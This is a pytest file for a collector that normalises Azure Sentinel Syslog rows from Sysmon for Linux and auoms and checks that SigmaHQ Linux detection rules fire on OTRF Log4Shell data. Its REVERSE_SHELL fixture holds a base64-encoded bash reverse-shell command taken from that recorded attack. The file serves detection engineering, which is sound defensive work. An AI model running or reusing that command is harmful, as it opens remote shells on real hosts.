"""Azure Sentinel `Syslog` rows: Sysmon for Linux XML, auoms records, forwarded audit records and plain syslog
messages taken apart into events routed to SigmaHQ's linux log sources; malformed messages rejected with their
file and line; the OTRF Log4Shell rows read in place, with SigmaHQ linux rules firing on them."""

from __future__ import annotations

import collections
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest

from collectors.errors import NormalisationError
from collectors.files import read_path
from collectors.json_reader import normalise_record, read_json
from collectors.sentinel_syslog import is_sentinel_syslog, normalise_sentinel_syslog
from correlator.model import Event, EventOrigin, Rejected, event_id_for
from correlator.sigma.engine import SigmaEngine
from correlator.sigma.loader import load_rules
from correlator.sigma.sources import SourcesConfig, load_sources
from tests.collectors.conftest import WriteFile

ORIGIN = EventOrigin(path="syslog.json", offset=7, format="json")
LOG4SHELL = "otrf/Log4Shell"
SYSMON_FILE = (f"{LOG4SHELL}/syslog_sysmon_log4shell_cve2021_44228_jndi_reference/"
               "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json")
AUOMS_FILE = (f"{LOG4SHELL}/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference/"
              "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json")
JAVA = "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
REVERSE_SHELL = "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"


def row(message: str, *, program: str = "sysmon", facility: str = "user", **columns: Any) -> dict[str, Any]:
    """A Sentinel Syslog row as the Log Analytics export writes it."""
    return {"TenantId": "redacted", "SourceSystem": "Linux", "TimeGenerated": "2022-05-11T18:10:22.5Z",
            "Computer": "UBUNTU5", "EventTime": "2022-05-11T18:10:22Z", "Facility": facility,
            "HostName": "UBUNTU5", "SeverityLevel": "info", "SyslogMessage": message, "HostIP": "192.168.2.5",
            "ProcessName": program, "Type": "Syslog", **columns}


def sysmon_xml(event_id: int, data: dict[str, str], *, computer: str = "UBUNTU5") -> str:
    items = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return ('<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
            f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task><Opcode>0"
            '</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2022-05-11T18:10:22.003485000Z"/>'
            '<EventRecordID>245760</EventRecordID><Correlation/><Execution ProcessID="1590" ThreadID="1590"/>'
            f"<Channel>Linux-Sysmon/Operational</Channel><Computer>{computer}</Computer><Security UserId=\"0\"/>"
            f"</System><EventData>{items}</EventData></Event>")


PROCESS_CREATE = {"RuleName": "-", "UtcTime": "2022-05-11 18:10:21.998", "ProcessId": "17790", "Image": "/bin/bash",
                  "CommandLine": REVERSE_SHELL, "CurrentDirectory": "/", "User": "tomcat", "LogonId": "1001",
                  "ParentProcessId": "1340", "ParentImage": JAVA, "ParentCommandLine": "java -jar app.jar"}

AUOMS_COMMON = ('SchemaVersion="1" auoms_version=2.5.2.0 node=UBUNTU5 arch=x86_64 syscall=execve syscall_r=59 '
                "success={success} exit={exit} a0=7fcd3bdfb8e0 a1=7fcd3027b7b0 a2=7ffccab2a7d8 a3=b ppid=1340 "
                "pid=17790 audit_user=unset auid=4294967295 user=tomcat uid=1001 group=tomcat gid=1001 "
                "effective_user=tomcat euid=1001 set_user=tomcat suid=1001 filesystem_user=tomcat fsuid=1001 "
                "effective_group=tomcat egid=1001 set_group=tomcat sgid=1001 filesystem_group=tomcat fsgid=1001 "
                'tty=(none) ses="-1" comm="{comm}" exe="{exe}" key=auoms,delete key_r=61756F6D730164656C657465 '
                'cwd="/" name="{path}" nametype=NORMAL ')
AUOMS_EXEC_OK = ("type=AUOMS_EXECVE audit(1652292621.990:84143): "
                 + AUOMS_COMMON.format(success="yes", exit=0, comm="bash", exe="/bin/bash", path="/bin/bash")
                 + 'inode=31 dev=08:01 mode=file,755 o_user=root ouid=0 owner_group=root ogid=0 rdev=00:00 '
                   'cap_fp=0 path_name=["/bin/bash","/lib64/ld-linux-x86-64.so.2"] path_nametype=["NORMAL","NORMAL"] '
                   'path_mode=["0100755","0100755"] path_ouid=["0","0"] path_ogid=["0","0"] argc=3 '
                   f'cmdline="bash -c "{REVERSE_SHELL[8:]}"" redactors= containerid=')
AUOMS_EXEC_FAILED = ("type=AUOMS_EXECVE audit(1652292621.986:84138): "
                     + AUOMS_COMMON.format(success="no", exit=-2, comm="http-nio-8080-e", exe=JAVA,
                                           path="/usr/local/sbin/bash")
                     + 'path_name=["/usr/local/sbin/bash"] path_nametype=["UNKNOWN"] path_mode=[""] path_ouid=[""] '
                       "path_ogid=[\"\"] proctitle=/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java "
                       "-Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l "
                       "redactors= containerid=")


def normalise(message: str, **columns: Any) -> Event:
    record = row(message, **columns)
    return normalise_sentinel_syslog(record, orjson.dumps(record).decode(), ORIGIN)


@pytest.fixture(scope="module")
def sources() -> SourcesConfig:
    return load_sources()


def logsources(event: Event, sources: SourcesConfig) -> set[tuple[Any, ...]]:
    """The (product, category, service) log sources an event is routed to."""
    keys = SigmaEngine([], sources).route(event) or ()
    return {key[1:] for key in keys if key[0] == "ls" and key[1] == "linux"}


# ---------------------------------------------------------------------------------------- which rows are ours


@pytest.mark.parametrize(("record", "expected"), [
    pytest.param(row("hello"), True, id="syslog-row"),
    pytest.param({"SyslogMessage": "hello", "SourceSystem": "Linux"}, True, id="source-system-linux"),
    pytest.param({"SyslogMessage": "hello", "ProcessName": "cron"}, True, id="process-name"),
    pytest.param({"SyslogMessage": "hello", "Facility": "daemon"}, True, id="facility"),
    pytest.param({"SyslogMessage": "hello"}, False, id="message-alone"),
    pytest.param({"SyslogMessage": 3, "SourceSystem": "Linux"}, False, id="message-not-text"),
    pytest.param({"EventID": 4624, "Channel": "Security", "SourceSystem": "OpsManager"}, False, id="security-event"),
])
def test_is_sentinel_syslog(record: dict[str, Any], expected: bool) -> None:
    assert is_sentinel_syslog(record) is expected


# ------------------------------------------------------------------------------------------- Sysmon for Linux


def test_sysmon_process_creation_fields_and_ecs(sources: SourcesConfig) -> None:
    record = row(sysmon_xml(1, PROCESS_CREATE))
    raw = orjson.dumps(record).decode()
    event = normalise_record(record, raw, ORIGIN)  # the json reader's hook
    assert (event.raw, event.id, event.origin) == (raw, event_id_for(raw, event.timestamp_ms), ORIGIN)
    fields = event.fields
    assert {name: fields[name] for name in ("EventID", "Image", "CommandLine", "ParentImage", "User", "ProcessId",
                                             "CurrentDirectory", "Computer", "EventRecordID", "Provider_Name")} == {
        "EventID": 1, "Image": "/bin/bash", "CommandLine": REVERSE_SHELL, "ParentImage": JAVA, "User": "tomcat",
        "ProcessId": "17790", "CurrentDirectory": "/", "Computer": "UBUNTU5", "EventRecordID": 245760,
        "Provider_Name": "Linux-Sysmon"}
    assert "Channel" not in fields  # a native Channel would route the event to Windows rules
    assert event.ecs["winlog"]["channel"] == "Linux-Sysmon/Operational"
    assert event.ecs["event"] | {"ingested": None} == {
        "code": "1", "kind": "event", "module": "sysmon", "provider": "Linux-Sysmon", "dataset": "sysmon_linux.log",
        "category": ["process"], "type": ["start"], "ingested": None}
    assert event.ecs["host"] == {"name": "UBUNTU5", "hostname": "UBUNTU5", "ip": ["192.168.2.5"],
                                 "os": {"type": "linux"}}
    assert (fields["process.executable"], fields["process.command_line"], fields["process.parent.executable"],
            fields["process.pid"], fields["user.name"]) == ("/bin/bash", REVERSE_SHELL, JAVA, 17790, "tomcat")
    assert event.timestamp_ms == 1652292621998  # UtcTime
    assert logsources(event, sources) >= {("linux", "process_creation", None)}


@pytest.mark.parametrize(("event_id", "data", "ecs", "category"), [
    pytest.param(3, {"Image": JAVA, "User": "tomcat", "Protocol": "tcp", "SourceIp": "192.168.2.5",
                     "SourcePort": "41696", "DestinationIp": "192.168.2.6", "DestinationPort": "1389"},
                 {"event.category": ["network"], "event.type": ["connection", "start"],
                  "destination.ip": "192.168.2.6", "destination.port": 1389, "source.ip": "192.168.2.5",
                  "network.transport": "tcp"}, "network_connection", id="3-network"),
    pytest.param(5, {"ProcessId": "1774", "Image": "wdavdaemon", "User": "root"},
                 {"event.category": ["process"], "event.type": ["end"], "process.pid": 1774},
                 "process_termination", id="5-process-end"),
    pytest.param(11, {"Image": JAVA, "TargetFilename": "/opt/tomcat/logs/app.log", "User": "tomcat"},
                 {"event.category": ["file"], "event.type": ["creation"], "file.path": "/opt/tomcat/logs/app.log",
                  "file.name": "app.log"}, "file_event", id="11-file-create"),
    pytest.param(23, {"Image": "/lib/systemd/systemd-udevd", "TargetFilename": "/run/udev/queue", "User": "root"},
                 {"event.category": ["file"], "event.type": ["deletion"], "file.path": "/run/udev/queue"},
                 "file_delete", id="23-file-delete"),
])
def test_sysmon_event_ids_are_categorised_and_routed(sources: SourcesConfig, event_id: int, data: dict[str, str],
                                                      ecs: dict[str, Any], category: str) -> None:
    event = normalise(sysmon_xml(event_id, {"UtcTime": "2022-05-11 18:10:20.395", **data}))
    assert event.fields["EventID"] == event_id
    assert {name: event.fields.get(name) for name in ecs} == ecs
    assert logsources(event, sources) >= {("linux", category, None)}
    assert ("linux", "process_creation", None) not in logsources(event, sources)


def test_sysmon_unknown_event_id_is_kept_without_category(sources: SourcesConfig) -> None:
    event = normalise(sysmon_xml(4, {"UtcTime": "2022-05-11 18:10:20.395", "State": "Started"}))
    assert (event.fields["EventID"], event.fields["State"], event.fields["event.code"]) == (4, "Started", "4")
    assert "event.category" not in event.fields
    assert logsources(event, sources) == {("linux", None, None)}


def test_sysmon_entities_including_unterminated_quot() -> None:
    # Sysmon for Linux writes `&quot` without its semicolon
    event = normalise(sysmon_xml(1, {"Image": "/bin/dash", "CommandLine": "sh -c ls &quot x&quot  | grep &lt;a&gt;"}))
    assert event.fields["CommandLine"] == 'sh -c ls " x"  | grep <a>'


def test_message_cut_by_the_syslog_daemon_keeps_what_was_read() -> None:
    whole = sysmon_xml(1, PROCESS_CREATE)
    cut = whole[:whole.index("java -jar") + 6]  # inside ParentCommandLine
    event = normalise(cut)
    assert event.fields["ParentCommandLine"] == "java -"
    assert event.fields["ParentImage"] == JAVA
    assert event.fields["log.flags"] == ["truncated"]
    closing_cut = whole[:whole.index("java -jar app.jar") + len("java -jar app.jar</Da")]
    assert normalise(closing_cut).fields["ParentCommandLine"] == "java -jar app.jar"
    assert "log.flags" not in normalise(whole).fields


def test_timestamp_falls_back_to_system_time_then_the_row() -> None:
    assert normalise(sysmon_xml(5, {"Image": "x"})).timestamp_ms == 1652292622003  # SystemTime
    no_time = sysmon_xml(5, {"Image": "x"}).replace('<TimeCreated SystemTime="2022-05-11T18:10:22.003485000Z"/>', "")
    assert normalise(no_time).timestamp_ms == 1652292622000  # the row's EventTime


SYSTEM_ONLY = "<System><EventID>1</EventID></System>"


@pytest.mark.parametrize(("message", "reason"), [
    pytest.param("<Event><EventData></EventData></Event>",
                 "Sysmon XML in SyslogMessage has no <System> element: '<Event><EventData></EventData></Event>'",
                 id="no-system"),
    pytest.param("<Event><System><Provider Name=\"Linux-Sysmon\"/></System><EventData></EventData></Event>",
                 "Sysmon XML in SyslogMessage: EventID is missing", id="no-event-id"),
    pytest.param("<Event><System><EventID>one</EventID></System><EventData></EventData></Event>",
                 "Sysmon XML in SyslogMessage: EventID is not a number: 'one'", id="event-id-not-a-number"),
    pytest.param(f'<Event>{SYSTEM_ONLY}<EventData><Data Name="Image">/bin/sh</Data>junk</EventData></Event>',
                 "Sysmon XML in SyslogMessage: unreadable EventData 'junk'", id="junk-in-event-data"),
    pytest.param(f'<Event>{SYSTEM_ONLY}<EventData><Data Name="Image">/bin/sh</Data></Event>',
                 "Sysmon XML in SyslogMessage: <EventData> is not closed", id="event-data-not-closed"),
    pytest.param(f"<Event>{SYSTEM_ONLY}", "Sysmon XML in SyslogMessage ends before its EventData",
                 id="cut-before-event-data"),
    pytest.param("type=AUOMS_EXECVE audit(abc:1): x=1",
                 "auoms record: expected 'type=TYPE audit(TIME:SERIAL):', got 'type=AUOMS_EXECVE audit(abc:1): x=1'",
                 id="auoms-bad-header"),
    pytest.param("type=AUOMS_EXECVE audit(1.5:1):junk x=1", "auoms record: no fields after the header: 'junk x=1'",
                 id="auoms-junk-after-header"),
    pytest.param('type=AUOMS_EXECVE audit(1.5:1): x=1 cmdline="bash -c "id',
                 "auoms record: unterminated value of cmdline: '\"bash -c \"id'", id="auoms-unterminated-cmdline"),
    pytest.param('type=AUOMS_EXECVE audit(1.5:1): x=1 path_name=["/bin/sh"',
                 "auoms record: unterminated value of path_name: '[\"/bin/sh\"'", id="auoms-unterminated-array"),
    pytest.param('type=SYSCALL msg=audit(1.5:1): arch=c000003e syscall=59 comm="x',
                 "audit record in SyslogMessage: unterminated quote or stray character at column 57: 'comm=\"x'",
                 id="forwarded-audit-record"),
])
def test_malformed_messages_raise_with_the_reason(message: str, reason: str) -> None:
    with pytest.raises(NormalisationError) as caught:
        normalise(message)
    assert caught.value.reason == reason
    assert (caught.value.path, caught.value.offset) == ("syslog.json", 7)


def test_malformed_rows_are_rejected_by_file_and_line_and_reading_goes_on(write: WriteFile) -> None:
    rows = [row(sysmon_xml(1, PROCESS_CREATE)), row("<Event><System></System></Event>"),
            row('type=AUOMS_EXECVE audit(1.5:1): cmdline="x'), row(AUOMS_EXEC_OK, program="auoms")]
    path = write("sentinel.json", "".join(orjson.dumps(r).decode() + "\n" for r in rows))
    items = list(read_json(path))
    assert [type(item).__name__ for item in items] == ["Event", "Rejected", "Rejected", "Event"]
    rejected = [item for item in items if isinstance(item, Rejected)]
    assert [(r.origin.path, r.origin.offset, r.stage, r.reason) for r in rejected] == [
        (str(path), 2, "normalise", "Sysmon XML in SyslogMessage: EventID is missing"),
        (str(path), 3, "normalise", "auoms record: unterminated value of cmdline: '\"x'"),
    ]
    assert rejected[0].raw == orjson.dumps(rows[1]).decode()


# ----------------------------------------------------------------------------------------------------- auoms


def test_auoms_execve_has_the_audit_names_sigma_reads(sources: SourcesConfig) -> None:
    event = normalise(AUOMS_EXEC_OK, program="auoms")
    fields = event.fields
    assert fields["type"] == ["AUOMS_EXECVE", "SYSCALL", "EXECVE", "CWD", "PATH"]
    assert [fields[f"a{i}"] for i in range(3)] == ["bash", "-c", REVERSE_SHELL[8:]]  # arguments, not registers
    assert (fields["argc"], fields["SYSCALL"], fields["syscall"], fields["success"]) == ("3", "execve", "59", "yes")
    assert (fields["exe"], fields["comm"], fields["cwd"]) == ("/bin/bash", "bash", "/")
    assert fields["key"] == ["auoms", "delete"]
    assert fields["name"] == ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"]
    assert (fields["inode"], fields["mode"], fields["OUID"]) == ("31", "0100755", "root")  # the first PATH item
    assert (fields["uid"], fields["UID"], fields["AUID"], fields["ARCH"]) == ("1001", "tomcat", "unset", "x86_64")
    assert "user" not in fields  # auoms's interpretation of uid is auditd's ENRICHED `UID`
    assert event.timestamp_ms == 1652292621990
    assert (event.host_name, event.raw) == ("UBUNTU5", orjson.dumps(row(AUOMS_EXEC_OK, program="auoms")).decode())
    assert logsources(event, sources) >= {("linux", None, "auditd"), ("linux", "process_creation", None)}


def test_auoms_execve_ecs_and_process_creation_names() -> None:
    fields = normalise(AUOMS_EXEC_OK, program="auoms").fields
    assert {name: fields[name] for name in (
        "event.module", "event.dataset", "event.provider", "event.action", "event.category", "event.type",
        "event.outcome", "process.executable", "process.command_line", "process.args", "process.pid",
        "process.parent.pid", "process.working_directory", "user.id", "user.name", "file.path", "tags",
        "host.os.type")} == {
        "event.module": "auditd", "event.dataset": "auditd.log", "event.provider": "auoms",
        "event.action": "executed", "event.category": ["process"], "event.type": ["start"],
        "event.outcome": "success", "process.executable": "/bin/bash", "process.command_line": REVERSE_SHELL,
        "process.args": ["bash", "-c", REVERSE_SHELL[8:]], "process.pid": 17790, "process.parent.pid": 1340,
        "process.working_directory": "/", "user.id": "1001", "user.name": "tomcat",
        "file.path": ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"], "tags": ["auoms", "delete"],
        "host.os.type": "linux"}
    assert {name: fields[name] for name in ("Image", "CommandLine", "CurrentDirectory", "User", "ProcessId",
                                             "ParentProcessId")} == {
        "Image": "/bin/bash", "CommandLine": REVERSE_SHELL, "CurrentDirectory": "/", "User": "tomcat",
        "ProcessId": "17790", "ParentProcessId": "1340"}
    assert "ParentImage" not in fields  # auoms does not say


def test_failed_auoms_execve_started_no_process(sources: SourcesConfig) -> None:
    event = normalise(AUOMS_EXEC_FAILED, program="auoms")
    fields = event.fields
    assert fields["type"] == ["AUOMS_EXECVE", "SYSCALL", "CWD", "PATH", "PROCTITLE"]
    assert (fields["event.outcome"], fields["event.type"], fields["exit"]) == ("failure", ["info"], "-2")
    assert fields["a0"] == "7fcd3bdfb8e0"  # no EXECVE: the syscall's registers
    assert fields["proctitle"] == ("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java "
                                   "-Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l")
    assert (fields["name"], fields["nametype"], fields["exe"]) == ("/usr/local/sbin/bash", "UNKNOWN", JAVA)
    assert "Image" not in fields
    assert logsources(event, sources) == {("linux", None, "auditd"), ("linux", None, None)}


@pytest.mark.parametrize(("cmdline", "args"), [
    pytest.param('"ls -la"', ["ls", "-la"], id="plain"),
    pytest.param('"bash -c "a|b""', ["bash", "-c", "a|b"], id="double-quoted-argument-unescaped"),
    pytest.param('"sh -c "echo \\"hi\\" \\$HOME""', ["sh", "-c", 'echo "hi" $HOME'], id="escapes-in-double-quotes"),
    pytest.param("\"echo 'a!b'\"", ["echo", "a!b"], id="single-quoted"),
    pytest.param("\"printf $'a\\x41\\tb'\"", ["printf", "aA\tb"], id="ansi-c-quoted"),
    pytest.param("\"env \"a b\" y=1 cmd\"", ["env", "a b", "y=1", "cmd"], id="name-value-inside-the-value"),
    pytest.param("\"touch ''\"", ["touch", ""], id="empty-argument"),
])
def test_auoms_cmdline_back_to_arguments(cmdline: str, args: list[str]) -> None:
    message = (f"type=AUOMS_EXECVE audit(1652292622.006:84144): syscall=execve syscall_r=59 success=yes exit=0 "
               f'pid=1 ppid=0 exe="/bin/x" argc={len(args)} cmdline={cmdline} redactors= containerid=')
    fields = normalise(message, program="auoms").fields
    assert [fields[f"a{i}"] for i in range(len(args))] == args
    assert (fields["redactors"], fields["containerid"]) == ("", "")


def test_auoms_proctitle_keeps_its_own_name_value_words() -> None:
    message = ("type=AUOMS_EXECVE audit(1652292622.006:84144): syscall=execve syscall_r=59 success=no exit=-2 "
               "pid=1 ppid=0 proctitle=env FOO=bar sh -c x=1 redactors= containerid=")
    fields = normalise(message, program="auoms").fields
    assert fields["proctitle"] == "env FOO=bar sh -c x=1"
    assert "FOO" not in fields


def test_forwarded_audit_record_is_read_as_auditd_reads_it(sources: SourcesConfig) -> None:
    event = normalise('type=EXECVE msg=audit(1652292621.986:84138): argc=2 a0="whoami" a1=2D61', program="audispd")
    assert (event.fields["type"], event.fields["a0"], event.fields["a1"]) == ("EXECVE", "whoami", "-a")
    assert event.fields["event.module"] == "auditd"
    assert ("linux", None, "auditd") in logsources(event, sources)


# ------------------------------------------------------------------------------------------ other syslog text


def test_sshd_row_reaches_the_auth_rules(sources: SourcesConfig) -> None:
    event = normalise("Failed password for root from 203.0.113.9 port 52211 ssh2", program="sshd",
                      facility="authpriv", ProcessID=2211)
    fields = event.fields
    assert {name: fields[name] for name in ("event.dataset", "event.outcome", "user.name", "source.ip",
                                             "process.name", "process.pid", "message", "host.name")} == {
        "event.dataset": "system.auth", "event.outcome": "failure", "user.name": "root",
        "source.ip": "203.0.113.9", "process.name": "sshd", "process.pid": 2211,
        "message": "Failed password for root from 203.0.113.9 port 52211 ssh2", "host.name": "UBUNTU5"}
    assert fields["log.syslog.facility.name"] == "authpriv"
    assert event.timestamp_ms == 1652292622000
    assert logsources(event, sources) == {("linux", None, "auth"), ("linux", None, None)}


def test_other_program_is_a_syslog_event(sources: SourcesConfig) -> None:
    event = normalise("(root) CMD (run-parts /etc/cron.hourly)", program="CRON", facility="cron")
    assert (event.fields["event.dataset"], event.fields["message"]) == (
        "system.syslog", "(root) CMD (run-parts /etc/cron.hourly)")
    assert (event.fields["log.syslog.severity.name"], event.fields["host.ip"]) == ("Informational", ["192.168.2.5"])
    assert logsources(event, sources) == {("linux", None, "syslog"), ("linux", None, None)}


# --------------------------------------------------------------------------------- OTRF Log4Shell, in place


@pytest.fixture(scope="module")
def linux_engine(shared_path: Callable[[str], Path], sources: SourcesConfig) -> SigmaEngine:
    ruleset = load_rules([shared_path("sigma/rules/linux")], sources=sources)
    assert ruleset.errors == []
    return SigmaEngine(ruleset.rules, sources)


def read_all(path: Path) -> tuple[list[Event], list[Rejected]]:
    items = list(read_path(path))
    return [i for i in items if isinstance(i, Event)], [i for i in items if isinstance(i, Rejected)]


@pytest.mark.parametrize(("relative", "module", "rows"), [
    pytest.param(SYSMON_FILE, "sysmon", 93, id="sysmon"),
    pytest.param(AUOMS_FILE, "auditd", 50, id="auoms"),
])
def test_log4shell_rows_are_all_normalised(shared_path: Callable[[str], Path], sources: SourcesConfig, relative: str,
                                           module: str, rows: int) -> None:
    events, rejected = read_all(shared_path(relative))
    assert rejected == []
    assert len(events) == rows
    assert {e.fields["event.module"] for e in events} == {module}
    assert all(e.host_name == "UBUNTU5" and e.timestamp_ms > 0 for e in events)
    assert all(logsources(e, sources) for e in events)  # no event of unknown log source


def test_log4shell_sysmon_kinds(shared_path: Callable[[str], Path]) -> None:
    events, _ = read_all(shared_path(SYSMON_FILE))
    assert collections.Counter(e.fields["EventID"] for e in events) == {5: 50, 1: 31, 3: 6, 11: 4, 23: 2}
    shell = next(e for e in events if e.fields.get("ParentImage") == JAVA)
    assert (shell.fields["Image"], shell.fields["CommandLine"]) == ("/bin/bash", REVERSE_SHELL)
    assert shell.fields["log.flags"] == ["truncated"]  # its ParentCommandLine was cut at 2 KiB


def test_log4shell_sigmahq_linux_rules_fire(shared_path: Callable[[str], Path], linux_engine: SigmaEngine) -> None:
    fired: dict[str, collections.Counter[str]] = {}
    for name, relative in (("sysmon", SYSMON_FILE), ("auoms", AUOMS_FILE)):
        events, _ = read_all(shared_path(relative))
        fired[name] = collections.Counter(a.rule.title for e in events for a in linux_engine.match(e))
    assert fired["sysmon"] == {
        "Suspicious Java Children Processes": 1,  # java -> bash -c {echo,...}|{base64,-d}|{bash,-i}
        "Decode Base64 Encoded Text": 1,
        "Local Groups Discovery - Linux": 2,
        "Linux Reverse Shell Indicator": 1,  # bash's own network connection
    }
    assert fired["auoms"] == {
        "Decode Base64 Encoded Text": 1,  # process_creation through the Image/CommandLine names
        "Local Groups Discovery - Linux": 2,
        "System Owner or User Discovery - Linux": 1,  # linux/auditd: EXECVE a0 whoami
    }
